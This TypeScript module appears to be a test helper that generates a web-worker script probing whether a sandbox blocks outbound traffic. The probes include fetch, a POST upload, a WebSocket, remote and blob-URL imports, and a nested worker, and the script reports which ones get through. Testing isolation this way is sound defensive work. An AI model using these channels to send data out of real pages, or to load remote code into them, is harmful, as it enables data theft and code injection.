/** A script that tries every way to send data from a worker when it receives "attack", and replies with each result. */
export function attack(host: string): string {
  return `
self.addEventListener('message', async (event) => {
  if (event.data !== 'attack') return;
  const socket = new Promise((resolve, reject) => {
    const socket = new WebSocket('ws://${host}/socket');
    socket.onopen = resolve;
    socket.onerror = () => reject(new Error('no socket'));
  });
  const blob = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const nested = async () => {
    const worker = new Worker(blob("fetch('http://${host}/nested').then(() => postMessage('got through'), () => postMessage('refused'))"));
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => (data === 'refused' ? reject(new Error(data)) : resolve());
      worker.onerror = () => reject(new Error('no worker'));
    });
  };
  const ways = {
    fetch: () => fetch('http://${host}/fetch'),
    upload: () => fetch('http://${host}/upload', { method: 'POST', body: '532013000', mode: 'no-cors' }),
    socket: () => socket,
    import: () => import('http://${host}/import.js'),
    blob: () => import(blob("await fetch('http://${host}/blob')")),
    nested,
  };
  const ended = {};
  for (const [way, go] of Object.entries(ways))
    ended[way] = await Promise.resolve().then(go).then(() => 'got through', () => 'refused');
  (event.source ?? self).postMessage({ ended });
});
`;
}

/** For a page: starts the worker at a path, tells it to attack, and returns how each way ended. */
export function answerOfWorker(path: string): Promise<Record<string, string>> {
  return new Promise((resolve, reject) => {
    const worker = new Worker(path, { type: 'module' });
    worker.onerror = () => reject(new Error('the worker does not start'));
    worker.onmessage = ({ data }) => data.ended && resolve(data.ended);
    worker.postMessage('attack');
  });
}
